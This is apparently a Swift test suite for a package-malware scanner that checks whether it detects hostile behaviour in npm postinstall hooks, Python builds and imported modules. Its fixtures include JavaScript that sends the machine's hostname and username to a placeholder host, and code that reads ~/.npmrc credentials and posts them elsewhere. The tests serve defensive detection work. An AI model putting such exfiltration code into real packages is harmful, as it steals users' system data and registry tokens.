import SallyportAnalysis
import SallyportModel
import Testing

/// One source and the fact that it must raise, or none.
struct Snippet: Sendable, CustomTestStringConvertible {
    let title: String
    let codes: [FactCode]
    let source: String

    init(_ title: String, _ codes: FactCode..., source: String) {
        self.title = title
        self.codes = codes
        self.source = source
    }

    var testDescription: String { title }
}

@Suite("What code does is seen")
struct BehaviourTests {
    @Test("when a hook of npm runs it", arguments: InstallSnippets.javaScript)
    func install(_ snippet: Snippet) {
        let package = Sample.npm(["i.js": snippet.source], scripts: ["postinstall": "node i.js"])
        expect(snippet, Sample.report(package), .install)
    }

    @Test("when a build of Python runs it", arguments: InstallSnippets.python)
    func build(_ snippet: Snippet) {
        expect(snippet, Sample.report(Sample.sdist(["setup.py": snippet.source]), "sample-1.0.tar.gz"), .install)
    }

    @Test("in a command", arguments: InstallSnippets.commands)
    func command(_ snippet: Snippet) {
        expect(snippet, Sample.report(Sample.npm([:], scripts: ["postinstall": snippet.source])), .install)
    }

    @Test("when a program loads it", arguments: LoadSnippets.javaScript)
    func load(_ snippet: Snippet) {
        expect(snippet, Sample.report(Sample.npm(["index.js": snippet.source])), .load)
    }

    @Test("when a program imports it", arguments: LoadSnippets.python)
    func imported(_ snippet: Snippet) {
        expect(snippet, Sample.report(wheel: Sample.wheel(["sample/__init__.py": snippet.source])), .load)
    }

    @Test("and honest code of a library makes no chain", arguments: HonestSnippets.javaScript)
    func honest(_ snippet: Snippet) {
        expectQuiet(Sample.report(Sample.npm(["index.js": snippet.source])), .load)
    }

    @Test("and honest code of a library in Python makes no chain", arguments: HonestSnippets.python)
    func honestPython(_ snippet: Snippet) {
        expectQuiet(Sample.report(wheel: Sample.wheel(["sample/__init__.py": snippet.source])), .load)
    }

    @Test("and an honest installation makes no chain", arguments: HonestSnippets.installers)
    func honestInstaller(_ snippet: Snippet) {
        let package = Sample.npm(["i.js": snippet.source], scripts: ["postinstall": "node i.js"])
        expectQuiet(Sample.report(package), .install)
    }

    @Test("and every chain tells its steps")
    func steps() throws {
        let source = """
            const os = require('os');
            const name = os.hostname();
            const user = os.userInfo().username;
            const body = JSON.stringify({ name, user });
            fetch('https://collect.example.invalid/in', { method: 'POST', body });
            """
        let report = Sample.report(Sample.npm(["index.js": source]))
        let fact = try #require(report.facts(.chainSystemInformation, .load).first)
        #expect(fact.steps.map(\.place.line) == [2, 3, 5])
        #expect(fact.steps.allSatisfy { $0.place.path == "package/index.js" && !$0.what.isEmpty })
        #expect(fact.steps.last?.place.excerpt?.contains("fetch(") == true)
    }

    @Test("and values are followed from one file into another")
    func across() throws {
        let files = [
            "index.js": "const { report } = require('./lib/send');\nconst fs = require('fs'), os = require('os');\n"
                + "const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nreport('settings', rc);\n",
            "lib/send.js": "const https = require('https');\nfunction report(kind, body) {\n"
                + "  https.request({ host: 'x.example.invalid', path: '/' + kind, method: 'POST' }).end(body);\n}\n"
                + "module.exports = { report };\n",
        ]
        let report = Sample.report(Sample.npm(files))
        let fact = try #require(report.facts(.chainExfiltration, .load).first)
        #expect(fact.steps.map(\.place.path).contains("package/lib/send.js"))
        #expect(fact.steps.first?.place.path == "package/index.js")
    }

    private func expect(_ snippet: Snippet, _ report: Report, _ reach: Reach) {
        let found = report.facts.filter { $0.reach == reach }.map(\.code)
        for code in snippet.codes {
            #expect(
                found.contains(code),
                "\(snippet.title): \(report.facts.map { "\($0.reach) \($0.code) \($0.detail)" })"
            )
        }
        for fact in report.facts where fact.code.isChain { #expect(!fact.steps.isEmpty) }
    }

    private func expectQuiet(_ report: Report, _ reach: Reach) {
        let loud = report.facts.filter {
            $0.code.isChain || $0.code == .capabilityDestructive || $0.code == .capabilityPersistence
        }
        #expect(loud.isEmpty, "\(loud.map { "\($0.reach) \($0.code) \($0.detail)" })")
    }
}

extension FactCode {
    var isChain: Bool { rawValue.hasPrefix("chain.") }
}
